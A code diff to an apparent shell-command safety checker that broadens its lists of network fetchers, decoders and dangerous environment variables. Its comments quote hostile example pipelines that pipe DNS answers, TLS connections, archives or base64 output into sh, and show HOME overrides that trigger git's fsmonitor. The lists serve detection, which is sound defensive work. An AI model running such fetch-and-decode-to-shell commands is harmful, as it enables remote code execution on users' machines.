@@ -49,29 +49,55 @@ export function isCodeRunner(name: string): boolean {
   return SHELLS.has(name) || interpreterOf(name) !== undefined;
 }
 
-/** Programs that fetch remote content (remote→exec when it reaches a shell), whether or not they are blocklisted. */
-export const FETCHERS: ReadonlySet<string> = new Set([
-  "curl", "wget", "fetch", "aria2c", "http", "https", "xh", "httpie", "lwp-request", "lwp-download", "GET", "POST",
-  "nc", "ncat", "netcat", "socat", "telnet", "ftp", "tftp", "scp", "sftp", "rsync", "ssh", "gh", "tftp", "lynx", "links",
-  "w3m", "elinks",
-]);
-
-/** A decoding step: which options turn a program into a decoder (empty list: the program always decodes). */
-export interface Decoder {
+/** A program in a role (decoding, fetching): its names, and the words that give it the role. With neither `when`
+ *  nor `contains`, the program always plays it. */
+export interface ProgramRole {
+  /** Program names; an interpreter's name stands for its family (`python` for `python3.12`). */
   readonly names: readonly string[];
-  /** Any of these words (or, for single letters, inside a short-option cluster) makes it decode. */
-  readonly when: readonly string[];
+  /** Any of these words (single letters also inside a short-option cluster) gives it the role. */
+  readonly when?: readonly string[];
+  /** An argument containing any of these gives it the role (jq's `@base64d` filter). */
+  readonly contains?: readonly string[];
+  /** Only when run as `python -m MODULE` with one of these modules. */
+  readonly modules?: readonly string[];
 }
 
-export const DECODERS: readonly Decoder[] = [
+/** Programs that fetch remote content (remote→exec when it reaches a shell), whether or not they are blocklisted. */
+export const FETCHERS: readonly ProgramRole[] = [
+  {
+    names: [
+      "curl", "wget", "fetch", "aria2c", "http", "https", "xh", "httpie", "curlie", "lwp-request", "lwp-download", "GET",
+      "POST", "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "ftp", "tftp", "lftp", "scp",
+      "sftp", "rsync", "ssh", "gh", "lynx", "links", "w3m", "elinks", "websocat", "wscat", "grpcurl", "gnutls-cli",
+      "smbclient", "rclone", "gsutil", "s3cmd",
+      // DNS answers carry text too: `dig +short TXT x.example | sh`.
+      "dig", "nslookup", "host", "drill", "kdig",
+    ],
+  },
+  // `openssl s_client -connect h:443 | sh` is a raw TLS connection, like nc.
+  { names: ["openssl"], when: ["s_client", "s_time"] },
+  { names: ["aws"], when: ["s3", "s3api"] },
+];
+
+export const DECODERS: readonly ProgramRole[] = [
   { names: ["base64", "gbase64"], when: ["-d", "--decode", "-D"] },
   { names: ["base32", "basenc"], when: ["-d", "--decode"] },
   { names: ["xxd"], when: ["-r", "-revert"] },
   { names: ["openssl"], when: ["-d", "base64", "-base64", "-a"] },
   { names: ["gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "brotli", "compress"], when: ["-d", "--decompress", "--uncompress"] },
-  { names: ["gunzip", "zcat", "bzcat", "bunzip2", "xzcat", "unxz", "unlzma", "lzcat", "zstdcat", "unzstd", "uncompress", "uudecode", "rot13"], when: [] },
-  { names: ["rev"], when: [] },
-  { names: ["tr"], when: [] },
+  { names: ["gunzip", "zcat", "bzcat", "bunzip2", "xzcat", "unxz", "unlzma", "lzcat", "zstdcat", "unzstd", "uncompress", "uudecode", "rot13"] },
+  { names: ["rev"] },
+  { names: ["tr"] },
+  // Archives and ciphers written to stdout: `unzip -p x.zip | sh`, `tar -xOf x.tar | sh`, `gpg -d x.gpg | sh`.
+  { names: ["unzip"], when: ["-p", "-c"] },
+  { names: ["tar", "bsdtar", "gtar"], when: ["-O", "--to-stdout"] },
+  { names: ["7z", "7za", "7zr"], when: ["-so"] },
+  { names: ["gpg", "gpg2"], when: ["-d", "--decrypt"] },
+  { names: ["age"], when: ["-d", "--decrypt"] },
+  // `jq -r '.x|@base64d' f | sh`, and yq's copy of the filter.
+  { names: ["jq", "gojq", "jaq", "yq"], contains: ["@base64d"] },
+  // `python3 -m base64 -d f | sh`: the standard library's decoders have command lines.
+  { names: ["python"], modules: ["base64", "quopri", "uu", "gzip"], when: ["-d", "-u", "--decode", "--decompress"] },
 ];
 
 /** Directories whose programs are the real thing: `/usr/bin/cat` is `cat`, `./cat` is not. */
@@ -114,12 +140,14 @@ export function literalOutput(name: string, args: readonly { readonly value: str
 }
 
 /** Variables whose assignment changes what later commands run or load (IFS splitting, PATH lookup, preloads,
- *  start-up files, prompt hooks, pagers and editors that git/man start). Names ending in `*` are prefixes. */
+ *  start-up files, prompt hooks, pagers and editors that git/man start, and where config files are read from:
+ *  `HOME=. git status` reads ./.gitconfig, whose core.fsmonitor runs a program). Names ending in `*` are prefixes. */
 export const DANGEROUS_VARIABLES: readonly string[] = [
   "IFS", "PATH", "BASH_ENV", "ENV", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "LD_*", "DYLD_*", "PROMPT_COMMAND",
   "PS0", "PS1", "PS2", "PS4", "SHELLOPTS", "BASHOPTS", "BASH_FUNC_*", "GLOBIGNORE", "CDPATH", "ZDOTDIR", "HISTFILE",
   "PAGER", "GIT_PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "GIT_EXTERNAL_DIFF",
   "GIT_SSH", "GIT_SSH_COMMAND", "GIT_ASKPASS", "SSH_ASKPASS", "GIT_CONFIG*", "GIT_EXEC_PATH", "GIT_DIR", "GIT_TEMPLATE_DIR",
+  "GIT_WORK_TREE", "GIT_COMMON_DIR", "HOME", "XDG_CONFIG_HOME", "RIPGREP_CONFIG_PATH",
   "LESSOPEN", "LESSCLOSE", "NODE_OPTIONS", "NODE_PATH", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "PERL5OPT", "PERL5LIB",
   "PERLLIB", "RUBYOPT", "RUBYLIB", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "TERMINFO", "INPUTRC", "MAIL", "MAILPATH",
   "FPATH", "SUDO_ASKPASS", "npm_config_script_shell", "NPM_CONFIG_SCRIPT_SHELL",
